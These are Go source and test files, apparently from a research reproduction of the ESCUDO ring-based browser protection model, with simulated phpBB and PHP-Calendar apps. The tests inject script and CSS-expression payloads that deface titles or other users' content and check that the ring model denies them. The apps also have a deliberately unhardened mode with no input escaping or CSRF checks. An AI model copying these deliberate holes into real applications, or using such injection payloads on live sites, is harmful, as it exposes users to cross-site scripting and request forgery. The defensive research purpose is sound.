	p, err := b.Navigate(site.URL("/recurse"))
	if err != nil {
		t.Fatal(err)
	}
	depth := 0
	for cur := p; len(cur.Frames) > 0 && cur.Frames[0].Page != nil; cur = cur.Frames[0].Page {
		depth++
		if depth > 5 {
			t.Fatal("frame recursion not bounded")
		}
	}
	if depth != 2 {
		t.Errorf("nested depth = %d, want 2", depth)
	}
}
