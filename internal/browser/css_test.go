package browser

import (
	"errors"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/css"
	"repro/internal/dom"
	"repro/internal/web"
)

// cssNetwork serves a configured page with a trusted (ring-0) style
// sheet and a user-content region where attackers may smuggle styles.
func cssNetwork(userContent string) *web.Network {
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<html><head>` +
			`<div ring=0 r=0 w=0 x=0 id=headwrap><style id=appcss>` +
			`.secret { display: none } h1 { color: navy }` +
			`</style></div>` +
			`</head><body>` +
			`<div ring=1 r=1 w=1 x=1 id=app>` +
			`<h1 id=title>Styled App</h1>` +
			`<p id=visible>public text</p>` +
			`<p id=hidden class=secret>internal note</p>` +
			`</div>` +
			`<div ring=3 r=2 w=2 x=2 id=user>` + userContent + `</div>` +
			`</body></html>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		resp.Header.Add("Set-Cookie", "sid=v; Path=/")
		resp.Header.Add(core.HeaderCookie, "sid; ring=1; r=1; w=1; x=1")
		return resp
	}))
	return net
}

func TestCSSHidesDisplayNone(t *testing.T) {
	b := New(cssNetwork(`plain user text`), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	out := p.RenderText()
	if !strings.Contains(out, "public text") {
		t.Errorf("visible text missing: %q", out)
	}
	if strings.Contains(out, "internal note") {
		t.Errorf("display:none text rendered: %q", out)
	}
}

func TestCSSStyleResolution(t *testing.T) {
	b := New(cssNetwork(`x`), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if p.Styles == nil {
		t.Fatal("no resolver")
	}
	st := p.Styles.StyleFor(p.Doc.ByID("title"), css.Style{})
	if st.Color != "navy" {
		t.Errorf("title color = %q", st.Color)
	}
}

func TestCSSExpressionRunsAtStyleRing(t *testing.T) {
	// A hostile stylesheet smuggled into ring-3 user content: its
	// expression() runs as a ring-3 principal and is denied the
	// ring-1 app content — the Table 1 script-invoking principal,
	// mediated like any other.
	b := New(cssNetwork(`<style id=evilcss>`+
		`#x { width: expression(document.getElementById("title").innerText = "PWNED-BY-CSS") }`+
		`</style>`), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if len(p.ScriptErrors) != 1 {
		t.Fatalf("ScriptErrors = %v", p.ScriptErrors)
	}
	var denied *dom.DeniedError
	if !errors.As(p.ScriptErrors[0], &denied) {
		t.Fatalf("err = %v", p.ScriptErrors[0])
	}
	if denied.Decision.Principal.Ring != 3 {
		t.Errorf("expression principal ring = %d, want 3", denied.Decision.Principal.Ring)
	}
	// The same attack under SOP succeeds.
	bsop := New(cssNetwork(`<style id=evilcss>`+
		`#x { width: expression(document.getElementById("title").innerText = "PWNED-BY-CSS") }`+
		`</style>`), Options{Mode: ModeSOP})
	psop, err := bsop.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if len(psop.ScriptErrors) != 0 {
		t.Errorf("SOP errors = %v", psop.ScriptErrors)
	}
}

func TestCSSTrustedExpressionAllowed(t *testing.T) {
	// An expression in the ring-0 trusted sheet runs with ring-0
	// authority: the model constrains by context, not by construct.
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<div ring=0 r=0 w=0 x=0 id=headwrap>` +
			`<style>#banner { width: expression(log("expr ran")) }</style></div>` +
			`<div ring=1 r=1 w=1 x=1 id=app><p id=banner>b</p></div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if len(p.ScriptErrors) != 0 {
		t.Fatalf("errors = %v", p.ScriptErrors)
	}
	if lines := b.Console.Lines(); len(lines) != 1 || lines[0] != "expr ran" {
		t.Errorf("lines = %v", lines)
	}
}
