package phpcal

import (
	"net/url"
	"strconv"
	"strings"
	"testing"

	"repro/internal/browser"
	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/nonce"
	"repro/internal/origin"
	"repro/internal/web"
)

var calOrigin = origin.MustParse("http://calendar.example")

func newEnv(hardened bool) (*App, *web.Network, *browser.Browser) {
	a := New(Config{Origin: calOrigin, Hardened: hardened, Escudo: true, Nonces: nonce.NewSeqSource(1)})
	a.AddUser("alice", "pw1")
	a.AddUser("bob", "pw2")
	net := web.NewNetwork()
	net.Register(calOrigin, a)
	b := browser.New(net, browser.Options{Mode: browser.ModeEscudo})
	return a, net, b
}

func loginAs(t *testing.T, b *browser.Browser, user, pass string) *browser.Page {
	t.Helper()
	p, err := b.Navigate(calOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.SubmitForm(p.Doc.ByID("loginform"), url.Values{
		"username": {user}, "password": {pass},
	}); err != nil {
		t.Fatal(err)
	}
	p, err = b.Navigate(calOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestLoginAndSessionCookie(t *testing.T) {
	_, _, b := newEnv(false)
	p := loginAs(t, b, "alice", "pw1")
	if who := p.Doc.ByID("whoami"); who == nil || !strings.Contains(html.InnerText(who), "alice") {
		t.Fatal("not logged in")
	}
	c, ok := b.Jar().Get(calOrigin, CookieSession)
	if !ok || c.Ring != 1 || c.ACL != core.UniformACL(1) {
		t.Errorf("session cookie = %+v, %v (want Table 5 ring 1)", c, ok)
	}
}

func TestCreateEventAndLabels(t *testing.T) {
	a, _, b := newEnv(false)
	p := loginAs(t, b, "alice", "pw1")
	if _, err := p.SubmitForm(p.Doc.ByID("newevent"), url.Values{
		"day": {"14"}, "text": {"team meeting"},
	}); err != nil {
		t.Fatal(err)
	}
	events := a.Events()
	if len(events) != 1 || events[0].Day != 14 || events[0].Author != "alice" {
		t.Fatalf("events = %+v", events)
	}
	p2, err := b.Navigate(calOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	ev := p2.Doc.ByID("event-" + strconv.Itoa(events[0].ID))
	if ev == nil || ev.Ring != RingEvent || ev.ACL != ACLEvent {
		t.Errorf("event node = %+v, want Table 5 ring 3 ACL ≤2", ev)
	}
	if body := p2.Doc.ByID("appbody"); body.Ring != RingApp || body.ACL != ACLApp {
		t.Errorf("appbody = %+v", body)
	}
	if head := p2.Doc.ByID("head"); head.Ring != 0 {
		t.Errorf("head = %+v", head)
	}
}

func TestEventValidation(t *testing.T) {
	a, net, b := newEnv(false)
	loginAs(t, b, "alice", "pw1")
	sid, _ := b.Jar().Get(calOrigin, CookieSession)
	for _, bad := range []url.Values{
		{"day": {"0"}, "text": {"x"}},
		{"day": {"32"}, "text": {"x"}},
		{"day": {"abc"}, "text": {"x"}},
		{"day": {"5"}, "text": {""}},
	} {
		req := web.NewRequest("POST", calOrigin.URL("/event"))
		req.Header.Set("Cookie", CookieSession+"="+sid.Value)
		req.Form = bad
		resp, err := net.RoundTrip(req)
		if err != nil {
			t.Fatal(err)
		}
		if resp.Status != 403 {
			t.Errorf("bad event %v: status %d", bad, resp.Status)
		}
	}
	if len(a.Events()) != 0 {
		t.Error("invalid events stored")
	}
}

func TestUpdateOwnEventOnly(t *testing.T) {
	a, net, b := newEnv(false)
	loginAs(t, b, "alice", "pw1")
	aliceSid, _ := b.Jar().Get(calOrigin, CookieSession)
	req := web.NewRequest("POST", calOrigin.URL("/event"))
	req.Header.Set("Cookie", CookieSession+"="+aliceSid.Value)
	req.Form = url.Values{"day": {"3"}, "text": {"alice event"}}
	if _, err := net.RoundTrip(req); err != nil {
		t.Fatal(err)
	}
	id := a.Events()[0].ID

	bobSid, err := a.Login("bob", "pw2")
	if err != nil {
		t.Fatal(err)
	}
	req = web.NewRequest("POST", calOrigin.URL("/update"))
	req.Header.Set("Cookie", CookieSession+"="+bobSid)
	req.Form = url.Values{"id": {strconv.Itoa(id)}, "text": {"bob was here"}}
	resp, err := net.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 403 {
		t.Errorf("bob updating alice's event: status %d", resp.Status)
	}
	ev, _ := a.EventByID(id)
	if ev.Text != "alice event" {
		t.Errorf("event modified: %q", ev.Text)
	}
	// Alice can update her own.
	req = web.NewRequest("POST", calOrigin.URL("/update"))
	req.Header.Set("Cookie", CookieSession+"="+aliceSid.Value)
	req.Form = url.Values{"id": {strconv.Itoa(id)}, "text": {"rescheduled"}}
	if resp, err = net.RoundTrip(req); err != nil || resp.Status != 303 {
		t.Fatalf("alice update: %v %v", resp, err)
	}
	ev, _ = a.EventByID(id)
	if ev.Text != "rescheduled" {
		t.Errorf("event = %q", ev.Text)
	}
}

func TestQuickeventGET(t *testing.T) {
	a, net, b := newEnv(false)
	loginAs(t, b, "alice", "pw1")
	sid, _ := b.Jar().Get(calOrigin, CookieSession)
	req := web.NewRequest("GET", calOrigin.URL("/quickevent?day=7&text=injected"))
	req.Header.Set("Cookie", CookieSession+"="+sid.Value)
	if _, err := net.RoundTrip(req); err != nil {
		t.Fatal(err)
	}
	if events := a.Events(); len(events) != 1 || events[0].Text != "injected" {
		t.Errorf("events = %+v", events)
	}
}

func TestHardenedEscapesEventText(t *testing.T) {
	a, _, b := newEnv(true)
	p := loginAs(t, b, "alice", "pw1")
	if _, err := p.SubmitForm(p.Doc.ByID("newevent"), url.Values{
		"day": {"2"}, "text": {`<script>evil()</script>`},
	}); err != nil {
		t.Fatal(err)
	}
	if len(a.Events()) != 1 {
		t.Fatal("event missing")
	}
	p2, err := b.Navigate(calOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if scripts := p2.Doc.ByTag("script"); len(scripts) != 1 { // head caljs only
		t.Errorf("scripts = %d, want 1", len(scripts))
	}
}

func TestUnhardenedEventScriptRunsAtRing3(t *testing.T) {
	a, _, b := newEnv(false)
	p := loginAs(t, b, "alice", "pw1")
	if _, err := p.SubmitForm(p.Doc.ByID("newevent"), url.Values{
		"day": {"2"}, "text": {`<script>document.getElementById("caltitle").innerText = "pwned";</script>`},
	}); err != nil {
		t.Fatal(err)
	}
	if len(a.Events()) != 1 {
		t.Fatal("event missing")
	}
	p2, err := b.Navigate(calOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// The injected script executed but was denied by the ring rule.
	if len(p2.ScriptErrors) != 1 {
		t.Fatalf("ScriptErrors = %v", p2.ScriptErrors)
	}
	if got := html.InnerText(p2.Doc.ByID("caltitle")); got != "Group Calendar" {
		t.Errorf("title = %q", got)
	}
}

func TestEventsIsolatedFromEachOther(t *testing.T) {
	// Table 5: one event's script cannot modify another event
	// (events are ring 3; event ACL admits only rings ≤ 2).
	a, _, b := newEnv(false)
	p := loginAs(t, b, "alice", "pw1")
	if _, err := p.SubmitForm(p.Doc.ByID("newevent"), url.Values{
		"day": {"1"}, "text": {"victim event"},
	}); err != nil {
		t.Fatal(err)
	}
	victimID := a.Events()[0].ID
	p, err := b.Navigate(calOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	payload := `<script>document.getElementById("event-` + strconv.Itoa(victimID) + `").innerText = "defaced";</script>`
	if _, err := p.SubmitForm(p.Doc.ByID("newevent"), url.Values{
		"day": {"1"}, "text": {payload},
	}); err != nil {
		t.Fatal(err)
	}
	p2, err := b.Navigate(calOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if len(p2.ScriptErrors) != 1 {
		t.Fatalf("ScriptErrors = %v", p2.ScriptErrors)
	}
	if got := html.InnerText(p2.Doc.ByID("event-" + strconv.Itoa(victimID))); got != "victim event" {
		t.Errorf("victim event = %q", got)
	}
}

func TestLegacyMode(t *testing.T) {
	a := New(Config{Origin: calOrigin, Escudo: false, Nonces: nonce.NewSeqSource(1)})
	a.AddUser("alice", "pw1")
	net := web.NewNetwork()
	net.Register(calOrigin, a)
	b := browser.New(net, browser.Options{Mode: browser.ModeEscudo})
	p, err := b.Navigate(calOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if p.Config.Configured() {
		t.Error("legacy app must not be configured")
	}
}
