// Package phpcal is a functional re-implementation of the PHP-Calendar
// application, the paper's second case study (§6.2): a multi-user
// online calendar where a group collaboratively creates and tracks
// events. Pages carry the exact ESCUDO configuration of Table 5:
//
//	cookies, XMLHttpRequest, application content → ring 1 (ACL ≤ 1)
//	calendar events                              → ring 3 (ACL ≤ 2)
//
// so "the various calendar events are isolated from one another".
// Like phpbb, it has hardened/unhardened modes mirroring the defenses
// §6.4 removed (PHP-Calendar "had no protection mechanisms for CSRF
// attacks" at all, so its hardened mode only adds input validation).
package phpcal

import (
	"fmt"
	"sort"
	"strings"
	"sync"

	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/nonce"
	"repro/internal/origin"
	"repro/internal/policy"
	"repro/internal/template"
	"repro/internal/web"
)

// CookieSession is the calendar's session cookie.
const CookieSession = "phpc_session"

// Ring assignment of Table 5.
var (
	// RingApp is the ring of application content, cookies, and XHR.
	RingApp = core.Ring(1)
	// RingEvent is the ring of calendar events.
	RingEvent = core.Ring(3)
	// ACLApp restricts app content to rings 0-1.
	ACLApp = core.UniformACL(1)
	// ACLEvent lets rings 0-2 manipulate events; ring-3 principals
	// (other events' scripts) cannot.
	ACLEvent = core.UniformACL(2)
	// ACLHead restricts the head to ring 0.
	ACLHead = core.UniformACL(0)
)

// Config configures the app.
type Config struct {
	// Origin the app is served from.
	Origin origin.Origin
	// Hardened enables input sanitization.
	Hardened bool
	// Escudo controls emission of the ESCUDO configuration.
	Escudo bool
	// Nonces supplies markup-randomization nonces; nil = crypto.
	Nonces nonce.Source
}

// Event is one calendar event.
type Event struct {
	ID     int
	Author string
	Day    int // day of the (single, abstract) month, 1..31
	Text   string
}

// App is the calendar application.
type App struct {
	mu       sync.Mutex
	cfg      Config
	users    map[string]string
	sessions map[string]string
	events   []*Event
	nextID   int
	builder  *template.ACBuilder
}

var _ web.Handler = (*App)(nil)

// New creates an app.
func New(cfg Config) *App {
	return &App{
		cfg:      cfg,
		users:    map[string]string{},
		sessions: map[string]string{},
		builder:  template.NewACBuilder(cfg.Nonces),
	}
}

// AddUser registers a user.
func (a *App) AddUser(name, password string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.users[name] = password
}

// Events returns a snapshot of all events sorted by day then id.
func (a *App) Events() []Event {
	a.mu.Lock()
	defer a.mu.Unlock()
	out := make([]Event, 0, len(a.events))
	for _, e := range a.events {
		out = append(out, *e)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Day != out[j].Day {
			return out[i].Day < out[j].Day
		}
		return out[i].ID < out[j].ID
	})
	return out
}

// EventByID returns a snapshot of one event.
func (a *App) EventByID(id int) (Event, bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, e := range a.events {
		if e.ID == id {
			return *e, true
		}
	}
	return Event{}, false
}

// SeedEvent inserts an event directly into the store, as the attack
// harness's malicious registered user would.
func (a *App) SeedEvent(author string, day int, text string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.nextID++
	a.events = append(a.events, &Event{ID: a.nextID, Author: author, Day: day, Text: text})
	return a.nextID
}

// Login authenticates and creates a session.
func (a *App) Login(user, password string) (sid string, err error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.users[user] != password {
		return "", fmt.Errorf("phpcal: bad credentials for %q", user)
	}
	a.nextID++
	sid = fmt.Sprintf("cal%06d", a.nextID)
	a.sessions[sid] = user
	return sid, nil
}

// SessionUser resolves a session id.
func (a *App) SessionUser(sid string) (string, bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	u, ok := a.sessions[sid]
	return u, ok
}

// Serve implements web.Handler.
func (a *App) Serve(req *web.Request) *web.Response {
	switch {
	case req.Path() == "/" && req.Method == "GET":
		return a.monthView(req)
	case req.Path() == "/login" && req.Method == "POST":
		return a.login(req)
	case req.Path() == "/event" && req.Method == "POST":
		return a.createEvent(req)
	case req.Path() == "/quickevent" && req.Method == "GET":
		// GET state-change endpoint: PHP-Calendar had no CSRF
		// protection at all (§6.4).
		return a.createEvent(req)
	case req.Path() == "/update" && req.Method == "POST":
		return a.updateEvent(req)
	case strings.HasSuffix(req.Path(), ".png"):
		return web.HTML("")
	default:
		return web.NotFound()
	}
}

func (a *App) currentUser(req *web.Request) (string, bool) {
	sid, ok := req.Cookie(CookieSession)
	if !ok {
		return "", false
	}
	return a.SessionUser(sid)
}

func (a *App) sanitize(s string) string {
	if a.cfg.Hardened {
		return html.EscapeText(s)
	}
	return s
}

func (a *App) login(req *web.Request) *web.Response {
	sid, err := a.Login(req.Form.Get("username"), req.Form.Get("password"))
	if err != nil {
		return web.Forbidden("bad credentials")
	}
	resp := web.Redirect("/")
	resp.Header.Add("Set-Cookie", CookieSession+"="+sid+"; Path=/")
	a.decorate(resp)
	return resp
}

func (a *App) createEvent(req *web.Request) *web.Response {
	user, ok := a.currentUser(req)
	if !ok {
		return web.Forbidden("login required")
	}
	day := req.Form.Get("day")
	text := req.Form.Get("text")
	if req.Method == "GET" {
		day = req.Query().Get("day")
		text = req.Query().Get("text")
	}
	d := atoiDefault(day, 0)
	if d < 1 || d > 31 || text == "" {
		return web.Forbidden("bad event")
	}
	a.mu.Lock()
	a.nextID++
	a.events = append(a.events, &Event{ID: a.nextID, Author: user, Day: d, Text: text})
	a.mu.Unlock()
	resp := web.Redirect("/")
	a.decorate(resp)
	return resp
}

func (a *App) updateEvent(req *web.Request) *web.Response {
	user, ok := a.currentUser(req)
	if !ok {
		return web.Forbidden("login required")
	}
	id := atoiDefault(req.Form.Get("id"), 0)
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, e := range a.events {
		if e.ID == id {
			if e.Author != user {
				return web.Forbidden("not your event")
			}
			e.Text = req.Form.Get("text")
			resp := web.Redirect("/")
			a.decorate(resp)
			return resp
		}
	}
	return web.NotFound()
}

// monthView renders the calendar: a month grid with each event in its
// own ring-3 scope, plus the app's event-creation form in ring 1.
func (a *App) monthView(req *web.Request) *web.Response {
	user, loggedIn := a.currentUser(req)

	var b strings.Builder
	b.WriteString(`<h1 id=caltitle>Group Calendar</h1>`)
	if loggedIn {
		fmt.Fprintf(&b, `<p id=whoami>logged in as %s</p>`, user)
		b.WriteString(`<form id=newevent action="/event" method="post">` +
			`<input name=day value=""><textarea name=text></textarea>` +
			`<input type=submit value=Add></form>`)
	} else {
		b.WriteString(`<form id=loginform action="/login" method="post">` +
			`<input name=username value=""><input name=password value="">` +
			`<input type=submit value=Login></form>`)
	}
	b.WriteString(`<div id=month>`)
	events := a.Events()
	for day := 1; day <= 31; day++ {
		var todays []Event
		for _, e := range events {
			if e.Day == day {
				todays = append(todays, e)
			}
		}
		if len(todays) == 0 {
			continue
		}
		fmt.Fprintf(&b, `<h2 id=day-%d>Day %d</h2>`, day, day)
		for _, e := range todays {
			b.WriteString(a.wrapEvent(fmt.Sprintf("id=event-%d", e.ID), a.sanitize(e.Text)))
		}
	}
	b.WriteString(`</div>`)

	resp := web.HTML(a.chrome("Calendar", b.String()))
	a.decorate(resp)
	return resp
}

func (a *App) wrapEvent(idAttr, inner string) string {
	if !a.cfg.Escudo {
		return "<div " + idAttr + ">" + inner + "</div>"
	}
	return a.builder.Wrap(RingEvent, ACLEvent, idAttr, inner)
}

func (a *App) chrome(title, bodyInner string) string {
	head := fmt.Sprintf(`<title>%s</title><script id=caljs>var cal = "PHP-Calendar";</script>`, title)
	if a.cfg.Escudo {
		head = a.builder.Wrap(0, ACLHead, "id=head", head)
	} else {
		head = "<div id=head>" + head + "</div>"
	}
	body := bodyInner
	if a.cfg.Escudo {
		body = a.builder.Wrap(RingApp, ACLApp, "id=appbody", body)
	} else {
		body = "<div id=appbody>" + body + "</div>"
	}
	return "<html>" + head + "<body>" + body + "</body></html>"
}

// decorate attaches the Table 5 ESCUDO headers.
func (a *App) decorate(resp *web.Response) {
	if !a.cfg.Escudo {
		return
	}
	resp.Header.Set(core.HeaderMaxRing, "3")
	resp.Header.Add(core.HeaderCookie, fmt.Sprintf("%s; ring=1; r=1; w=1; x=1", CookieSession))
	resp.Header.Add(core.HeaderAPI, "xmlhttprequest; ring=1")
}

// Policy returns the app's unified policy document — the Table 5
// configuration (the same assignments decorate attaches as headers) as
// one serializable, validated artifact a gateway can mount and serve.
func (a *App) Policy() policy.Policy {
	p := policy.New(a.cfg.Origin, core.DefaultMaxRing)
	p.Cookies[CookieSession] = policy.Uniform(RingApp)
	p.APIs[core.APIXMLHTTPRequest] = RingApp
	return p
}

func atoiDefault(s string, def int) int {
	n := 0
	if s == "" {
		return def
	}
	for _, c := range s {
		if c < '0' || c > '9' {
			return def
		}
		n = n*10 + int(c-'0')
	}
	return n
}
