package phpcal

import (
	"strconv"
	"testing"

	"repro/internal/core"
)

// TestTable4Matrix executes the paper's Table 4 capability matrix:
//
//	Principal            Modify Messages  Access Cookies  Access XHR
//	Application content  Yes              Yes             Yes
//	Calendar events      No               No              No
//
// under the Table 5 configuration.
func TestTable4Matrix(t *testing.T) {
	a, _, b := newEnv(false)
	loginAs(t, b, "alice", "pw1")
	evID := a.SeedEvent("alice", 10, "standup")
	p, err := b.Navigate(calOrigin.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	eventID := "event-" + strconv.Itoa(evID)

	principals := []struct {
		name string
		ring core.Ring
		can  bool
	}{
		{"application content", RingApp, true},
		{"calendar events", RingEvent, false},
	}
	for _, pr := range principals {
		t.Run(pr.name, func(t *testing.T) {
			err := p.RunScriptRing(pr.ring, pr.name,
				`document.getElementById("`+eventID+`").innerText = "edited";`)
			if got := err == nil; got != pr.can {
				t.Errorf("modify events = %v, want %v (err=%v)", got, pr.can, err)
			}
			if err := p.RunScriptRing(pr.ring, pr.name, `log(document.cookie);`); err != nil {
				t.Fatalf("cookie read errored: %v", err)
			}
			lines := b.Console.Lines()
			sawCookie := len(lines) > 0 && lines[len(lines)-1] != ""
			if sawCookie != pr.can {
				t.Errorf("access cookies = %v, want %v", sawCookie, pr.can)
			}
			err = p.RunScriptRing(pr.ring, pr.name,
				`var x = new XMLHttpRequest(); x.open("GET", "/");`)
			if got := err == nil; got != pr.can {
				t.Errorf("access xhr = %v, want %v (err=%v)", got, pr.can, err)
			}
		})
	}
}
