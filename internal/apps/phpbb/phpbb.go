// Package phpbb is a functional re-implementation of the phpBB message
// board used as the paper's first case study (§6.2): users, login
// sessions with the phpbb2mysql_data and phpbb2mysql_sid cookies,
// discussion topics with replies, and private messages. Every page is
// generated with the exact ESCUDO configuration of Table 3:
//
//	cookies, XMLHttpRequest, application contents → ring 1 (ACL ≤ 1)
//	topics, replies, private messages            → ring 3 (ACL ≤ 2)
//
// so "content provided by one user is completely isolated from content
// provided by another".
//
// The app has a hardened and an unhardened mode. §6.4 removed the
// input-validation routines and the secret-token CSRF validation to
// facilitate the attacks; Unhardened mode reproduces that state.
package phpbb

import (
	"fmt"
	"sort"
	"strings"
	"sync"

	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/nonce"
	"repro/internal/origin"
	"repro/internal/policy"
	"repro/internal/template"
	"repro/internal/web"
)

// Cookie names, as in phpBB 2.x (§6.2: "There are two cookies in the
// web application, namely phpbb2mysql data and phpbb2mysql sid").
const (
	CookieData = "phpbb2mysql_data"
	CookieSID  = "phpbb2mysql_sid"
)

// Ring assignment of Table 3.
var (
	// RingApp is the ring of application contents, cookies, and XHR.
	RingApp = core.Ring(1)
	// RingUser is the ring of topics, replies, and private messages.
	RingUser = core.Ring(3)
	// ACLApp restricts app content to rings 0-1.
	ACLApp = core.UniformACL(1)
	// ACLUser lets rings 0-2 manipulate user content — so ring-3
	// content (other users' messages) cannot.
	ACLUser = core.UniformACL(2)
	// ACLHead restricts the head portion to ring 0.
	ACLHead = core.UniformACL(0)
)

// Config configures the app instance.
type Config struct {
	// Origin is the origin the app is served from.
	Origin origin.Origin
	// Hardened enables input sanitization and secret-token CSRF
	// validation (the defenses §6.4 removed).
	Hardened bool
	// Escudo controls whether responses carry the ESCUDO
	// configuration (AC tags and X-Escudo headers). Disabling it
	// produces the legacy application of the §6.3 compatibility
	// matrix.
	Escudo bool
	// Nonces supplies markup-randomization nonces; nil uses
	// crypto/rand.
	Nonces nonce.Source
}

// Post is one reply.
type Post struct {
	ID     int
	Author string
	Body   string
}

// Topic is one discussion thread.
type Topic struct {
	ID      int
	Author  string
	Subject string
	Body    string
	Replies []Post
}

// PrivateMessage is one PM.
type PrivateMessage struct {
	ID      int
	From    string
	To      string
	Subject string
	Body    string
}

// App is the forum application state plus its HTTP surface.
type App struct {
	mu       sync.Mutex
	cfg      Config
	users    map[string]string // name → password
	sessions map[string]string // sid → user
	tokens   map[string]string // sid → CSRF token
	topics   []*Topic
	pms      []*PrivateMessage
	nextID   int
	builder  *template.ACBuilder
}

var _ web.Handler = (*App)(nil)

// New creates an app with the given configuration.
func New(cfg Config) *App {
	return &App{
		cfg:      cfg,
		users:    map[string]string{},
		sessions: map[string]string{},
		tokens:   map[string]string{},
		builder:  template.NewACBuilder(cfg.Nonces),
	}
}

// AddUser registers a user.
func (a *App) AddUser(name, password string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.users[name] = password
}

// Topics returns a snapshot of all topics.
func (a *App) Topics() []Topic {
	a.mu.Lock()
	defer a.mu.Unlock()
	out := make([]Topic, 0, len(a.topics))
	for _, t := range a.topics {
		cp := *t
		cp.Replies = append([]Post(nil), t.Replies...)
		out = append(out, cp)
	}
	return out
}

// TopicByID returns a snapshot of one topic.
func (a *App) TopicByID(id int) (Topic, bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, t := range a.topics {
		if t.ID == id {
			cp := *t
			cp.Replies = append([]Post(nil), t.Replies...)
			return cp, true
		}
	}
	return Topic{}, false
}

// Messages returns a snapshot of the private messages addressed to
// user ("" for all).
func (a *App) Messages(user string) []PrivateMessage {
	a.mu.Lock()
	defer a.mu.Unlock()
	var out []PrivateMessage
	for _, m := range a.pms {
		if user == "" || m.To == user {
			out = append(out, *m)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// SessionUser resolves a session id to a user name.
func (a *App) SessionUser(sid string) (string, bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	u, ok := a.sessions[sid]
	return u, ok
}

// SeedTopic inserts a topic directly into the store, bypassing HTTP —
// the attack harness uses it to plant attacker-authored content the
// way a malicious registered user would post it.
func (a *App) SeedTopic(author, subject, body string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.nextID++
	a.topics = append(a.topics, &Topic{ID: a.nextID, Author: author, Subject: subject, Body: body})
	return a.nextID
}

// SeedReply inserts a reply directly into the store.
func (a *App) SeedReply(topicID int, author, body string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, t := range a.topics {
		if t.ID == topicID {
			a.nextID++
			t.Replies = append(t.Replies, Post{ID: a.nextID, Author: author, Body: body})
			return a.nextID
		}
	}
	return 0
}

// SeedPM inserts a private message directly into the store.
func (a *App) SeedPM(from, to, subject, body string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.nextID++
	a.pms = append(a.pms, &PrivateMessage{ID: a.nextID, From: from, To: to, Subject: subject, Body: body})
	return a.nextID
}

// Login authenticates and creates a session, returning the sid and
// CSRF token. It is the programmatic equivalent of POST /login, used
// to seed the attack scenarios.
func (a *App) Login(user, password string) (sid, token string, err error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.users[user] != password {
		return "", "", fmt.Errorf("phpbb: bad credentials for %q", user)
	}
	a.nextID++
	sid = fmt.Sprintf("sess%06d", a.nextID)
	a.sessions[sid] = user
	a.nextID++
	token = fmt.Sprintf("tok%06d", a.nextID)
	a.tokens[sid] = token
	return sid, token, nil
}

// Serve implements web.Handler.
func (a *App) Serve(req *web.Request) *web.Response {
	switch {
	case req.Path() == "/" && req.Method == "GET":
		return a.index(req)
	case req.Path() == "/login" && req.Method == "POST":
		return a.login(req)
	case req.Path() == "/logout":
		return a.logout(req)
	case req.Path() == "/viewtopic" && req.Method == "GET":
		return a.viewTopic(req)
	case req.Path() == "/posting" && req.Method == "POST":
		return a.posting(req)
	case req.Path() == "/quickpost" && req.Method == "GET":
		// A GET state-change endpoint, as period applications had —
		// the easiest CSRF target.
		return a.posting(req)
	case req.Path() == "/reply" && req.Method == "POST":
		return a.reply(req)
	case req.Path() == "/pm" && req.Method == "GET":
		return a.pmList(req)
	case req.Path() == "/pm_send" && req.Method == "POST":
		return a.pmSend(req)
	case strings.HasSuffix(req.Path(), ".png"):
		return web.HTML("") // image placeholders
	default:
		return web.NotFound()
	}
}

// currentUser resolves the request's session.
func (a *App) currentUser(req *web.Request) (user, sid string, ok bool) {
	sid, ok = req.Cookie(CookieSID)
	if !ok {
		return "", "", false
	}
	user, ok = a.SessionUser(sid)
	return user, sid, ok
}

// checkToken validates the CSRF secret token in hardened mode.
func (a *App) checkToken(req *web.Request, sid string) bool {
	if !a.cfg.Hardened {
		return true
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	return req.Form.Get("token") == a.tokens[sid] && a.tokens[sid] != ""
}

// sanitize applies the first-line input validation in hardened mode;
// unhardened mode passes user input through verbatim (§6.4: "we
// removed the input validation routines to facilitate XSS attacks").
